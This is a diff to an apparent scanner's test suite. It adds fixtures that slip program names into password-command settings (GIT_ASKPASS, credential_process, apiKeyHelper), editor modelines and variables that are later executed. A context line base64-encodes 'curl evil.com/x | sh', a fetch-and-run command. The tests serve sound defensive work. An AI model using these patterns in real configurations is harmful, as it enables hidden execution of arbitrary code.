@@ -556,6 +556,8 @@ function told(tries: string, words: RegExp, situation: Parameters<typeof seen>[2
 
 /** A name that looks as what a generator throws, and a package, an index or a host that somebody calls a password. */
 const [THROWN, PACKAGE, ACTION] = ['kJ8sL2mN9pQ4rS7tU1vW', 'ev1l-p4ckage2', 'ev1l-0rg/acti0n9x'];
+/** A word that may be a password, and the name of a program too. */
+const PROGRAM = 'Ev1lmark-T00l9';
 const CALLED_PASSWORD = { 'conf/a.yml': `password: ${PACKAGE}\n` };
 
 const COMMAND_IN_BASE64 = Buffer.from('curl evil.com/x | sh; password="Summer2024!x"').toString('base64');
@@ -1591,6 +1593,98 @@ export const control: Control = {
       'd.sh': 'docker login --help evilword\n',
     }).map(([path, text]) =>
       shown(`writes what runs where a password seems to stand: ${text.trim()}`, 'evilword', { [path]: text }),
+    ),
+    ...Object.entries({
+      Dockerfile: '# syntax=NAME\nFROM alpine\n',
+      'a.py': '# /// script\n# dependencies = ["NAME"]\n# ///\n',
+      'b.py': '# -*- eval: (shell-command "NAME") -*-\n',
+      'A.java': '//DEPS com.evil:NAME:1\nclass A {}\n',
+      'a.test.ts': '/** @jest-environment NAME */\n',
+      'b.test.ts': '// @vitest-environment NAME\n',
+      'a.ts': '/// <reference path="NAME" />\n',
+      'b.ts': '// @deno-types="npm:NAME"\nimport a from "b";\n',
+      'c.ts': '// eslint-disable-next-line NAME\nx();\n',
+      'a.go': 'package a\n\n// #cgo LDFLAGS: -lNAME\nimport "C"\n',
+      'b.go': 'package a\n\n// static void f(void) { system("NAME"); }\nimport "C"\n',
+      'c.go': 'package a\n\n// typedef the\n// NAME in\nimport "C"\n',
+      'a.rs': '/// ```\n/// run("NAME");\n/// ```\nfn main() {}\n',
+      'a.pyx': '# distutils: sources = NAME.c\n',
+      'a.vimrc': "# vim: fde=system('NAME')\n",
+      '.claude/commands/a.md': '!`NAME`\n',
+      'docs/a.rst': '>>> frob("NAME")\n',
+      'docs/b.rst': '.. program-output:: NAME\n',
+    }).map(([path, text]) =>
+      notShown(
+        `gives what a program reads in a comment a name that looks thrown: ${JSON.stringify(text)}`,
+        { [path]: text.replace('NAME', THROWN) },
+        {},
+        THROWN,
+      ),
+    ),
+    ...[
+      ['a.yml', 'passwordCommand: NAME'],
+      ['a.yml', 'token_cmd: NAME'],
+      ['a.yml', 'passwordEncoder: NAME'],
+      ['a.yml', 'env:\n  GIT_ASKPASS: NAME'],
+      ['docker-compose.yml', 'services:\n  a:\n    environment:\n      RESTIC_PASSWORD_COMMAND: NAME'],
+      ['.claude/settings.json', '{ "apiKeyHelper": "NAME" }'],
+      ['.msmtprc', 'passwordeval "NAME"'],
+      ['.mbsyncrc', 'PassCmd "NAME"'],
+      ['.aws/config', '[default]\ncredential_process = NAME'],
+      ['.npmrc', '//registry/:tokenHelper=NAME'],
+      ['.env.shared', 'SUDO_ASKPASS=NAME'],
+      ['app.env', 'AUTH_DISABLED=NAME'],
+    ].map(([path = '', text = '']) =>
+      shown(`calls a program by a name that speaks of a password: ${JSON.stringify(text)}`, PROGRAM, {
+        [path]: `${text.replace('NAME', PROGRAM)}\n`,
+      }),
+    ),
+    ...[
+      ['Procfile', 'password: NAME'],
+      ['pyproject.toml', '[project.scripts]\npassword = "NAME"'],
+      ['jest.config.json', '{ "moduleNameMapper": { "password": "NAME" } }'],
+      ['importmap.json', '{ "imports": { "a": "b", "password": "NAME" } }'],
+      ['webpack.config.js', 'module.exports = { resolve: { alias: { password: "NAME" } } };'],
+      ['a.yml', 'tasks:\n  # x\n  password: NAME'],
+      ['.gitconfig', '[alias]\n\tpassword = NAME'],
+    ].map(([path = '', text = '']) =>
+      notShown(
+        `calls what a table of free names leads to a password: ${JSON.stringify(text)}`,
+        { [path]: `${text.replace('NAME', PROGRAM)}\n` },
+        {},
+        PROGRAM,
+      ),
+    ),
+    ...[
+      ['a.sh', 'password=NAME\n$password'],
+      ['b.sh', 'password="NAME"\neval "$password"'],
+      ['c.sh', `token=NAME\nif true; then ./\${token} x; fi`],
+      ['Makefile', 'PASSWORD := NAME\nall:\n\t@$(PASSWORD) x'],
+      ['Dockerfile', 'ENV PASSWORD=NAME\nRUN $PASSWORD'],
+      ['b/Dockerfile', 'ARG TOKEN=NAME\nFROM $TOKEN'],
+      ['a.bat', 'set PASSWORD=NAME\n%password%'],
+      ['a.ps1', "$password = 'NAME'\n& $Password"],
+      ['azure-pipelines.yml', 'variables:\n  password: NAME\nsteps:\n- script: $(password)'],
+      ['pom.xml', `<project><a><password>NAME</password></a><artifactId>\${password}</artifactId></project>`],
+      ['a.tf', `resource "a" "b" {\n  password = "NAME"\n  command = "\${self.password}"\n}`],
+      ['a.gradle', 'password = "NAME"\napply from: password'],
+      ['a.py', 'password = "NAME"\nimportlib.import_module(password)'],
+      ['a.js', 'const password = "NAME";\nrequire(password);'],
+      ['a.rb', 'password = "NAME"\n`#{password}`'],
+      ['a.php', "<?php\n$password = 'NAME';\n$password();"],
+      ['b.php', "<?php\n$password = 'NAME';\ninclude $password;"],
+      ['a.java', 'class A { String password = "NAME"; Object a = Class.forName(password); }'],
+      ['a.go', 'package a\n\nvar password = "NAME"\nvar b, _ = plugin.Open(password)'],
+    ].map(([path = '', text = '']) =>
+      notShown(
+        `calls a program a password and runs it: ${JSON.stringify(text)}`,
+        { [path]: `${text.replace('NAME', PROGRAM)}\n` },
+        {},
+        PROGRAM,
+      ),
+    ),
+    ...['secrets/init.sh', 'secrets/Dockerfile', 'secrets/hook', 'bin/db_password'].map((path) =>
+      notShown(`writes one word into ${path}, which is a program`, { [path]: 'evilmark9X\n' }, {}, 'evilmark9X'),
     ),
     shown('lets somebody in by a public key', PUBLIC, { authorized_keys: `ssh-ed25519 ${PUBLIC} evil\n` }),
     unread(
